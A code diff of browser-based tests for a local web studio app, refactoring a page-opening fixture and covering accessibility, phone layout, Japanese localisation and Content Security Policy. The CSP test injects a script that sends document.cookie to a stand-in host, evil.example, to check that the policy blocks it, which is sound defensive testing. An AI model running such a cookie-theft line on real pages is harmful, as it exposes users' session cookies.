@@ -32,32 +32,43 @@ def studio(tmp_path_factory: pytest.TempPathFactory, ink_run: Path) -> Iterator[
         yield started
 
 
-def opened(browser, address: str, **facts):
-    """A page that has loaded its project."""
-    page = browser.new_context(**facts).new_page()
-    page.set_default_timeout(120_000)
-    page.goto(address)
-    page.wait_for_selector("#cards .card")
-    return page
+@pytest.fixture
+def opened(studio: Started, browser):
+    """Opens a page and waits for its project; closed at the end, since an open page goes on asking."""
+    contexts = []
+
+    def open_page(**facts):
+        contexts.append(browser.new_context(**facts))
+        page = contexts[-1].new_page()
+        page.set_default_timeout(120_000)
+        page.goto(studio.address)
+        page.wait_for_selector("#cards .picture")
+        return page
+
+    yield open_page
+    for context in contexts:
+        context.close()
 
 
 def show(page, tab: str) -> None:
     page.locator(f"#tab-{tab}-button").click()
     page.wait_for_selector(f"#tab-{tab}", state="visible")
-    wait = {"captions": "textarea", "try_it": "#strip img", "library": "#library-cards img, .card img, img"}.get(tab)
-    if wait:
-        page.wait_for_selector(f"#tab-{tab} {wait}" if not wait.startswith("#strip") else wait)
+    page.wait_for_selector({"captions": "#tab-captions textarea", "try_it": "#strip img", "library": "#shelf .lora"}.get(tab, "h1"))
 
 
 def violations(page) -> list[str]:
     page.evaluate(AXE)
     found = page.evaluate("tags => axe.run(document, {runOnly: {type: 'tag', values: tags}, resultTypes: ['violations']})", RULES)
-    return [f"{v['id']}: {node['html'][:200]} {node['any'][0]['message'] if node['any'] else ''}" for v in found["violations"] for node in v["nodes"]]
+    return [
+        f"{v['id']}: {node['html'][:200]} {node['any'][0]['message'] if node['any'] else ''}"
+        for v in found["violations"]
+        for node in v["nodes"]
+    ]
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_assistive_technology_finds_no_fault_on_any_tab(studio: Started, browser, scheme: str):
-    page, wrong = opened(browser, studio.address, color_scheme=scheme), {}
+def test_assistive_technology_finds_no_fault_on_any_tab(opened, scheme: str):
+    page, wrong = opened(color_scheme=scheme), {}
     for tab in TABS:
         show(page, tab)
         if scheme == "light":  # what is folded, too
@@ -70,8 +81,8 @@ def test_assistive_technology_finds_no_fault_on_any_tab(studio: Started, browser
     assert page.locator("h1").count() == 1
 
 
-def test_a_phone_shows_all_of_every_tab_and_a_finger_hits_it(studio: Started, browser):
-    page, small = opened(browser, studio.address, viewport={"width": 390, "height": 844}, has_touch=True), {}
+def test_a_phone_shows_all_of_every_tab_and_a_finger_hits_it(opened):
+    page, small = opened(viewport={"width": 390, "height": 844}, has_touch=True), {}
     for tab in TABS:
         show(page, tab)
         assert page.evaluate("document.documentElement.scrollWidth") <= 390, tab
@@ -89,8 +100,8 @@ def test_a_phone_shows_all_of_every_tab_and_a_finger_hits_it(studio: Started, br
     assert not small, small
 
 
-def test_a_japanese_browser_shows_no_english_sentence(studio: Started, browser):
-    page, wrong = opened(browser, studio.address, locale="ja"), {}
+def test_a_japanese_browser_shows_no_english_sentence(opened):
+    page, wrong = opened(locale="ja"), {}
     english, japanese = sentences("en"), sentences("ja")
     told = {text for key, text in english.items() if japanese.get(key) != text and re.search("[a-z]{3}", text)}
     assert page.evaluate("document.documentElement.lang") == "ja"
@@ -118,7 +129,7 @@ def test_the_page_asks_no_other_host_and_breaks_no_rule_of_its_own(studio: Start
     page.on("pageerror", lambda e: faults.append(str(e)))
     page.on("response", lambda r: faults.append(f"{r.status} {r.url}") if r.status >= 400 else None)
     page.goto(studio.address)
-    page.wait_for_selector("#cards .card")
+    page.wait_for_selector("#cards .picture")
     for tab in TABS:
         show(page, tab)
     assert not foreign and not faults
@@ -128,9 +139,19 @@ def test_the_page_asks_no_other_host_and_breaks_no_rule_of_its_own(studio: Start
         fetch('https://evil.example/?' + document.cookie).catch(() => {}); }""")
     page.wait_for_timeout(500)
     assert page.evaluate("window.stolen === undefined") and any("Content Security Policy" in fault for fault in faults)
+    page.context.close()
 
 
 def test_a_second_server_of_the_same_folder_ends_and_names_the_first(studio: Started):
-    command = [sys.executable, "app.py", "--port", "1", "--datasets", str(studio.home / "datasets"), "--outputs", str(studio.home / "outputs")]
+    command = [
+        sys.executable,
+        "app.py",
+        "--port",
+        "1",
+        "--datasets",
+        str(studio.home / "datasets"),
+        "--outputs",
+        str(studio.home / "outputs"),
+    ]
     done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
     assert done.returncode == 1 and re.search(rf"by process \d+ at {re.escape(studio.address)}", done.stderr), done.stderr
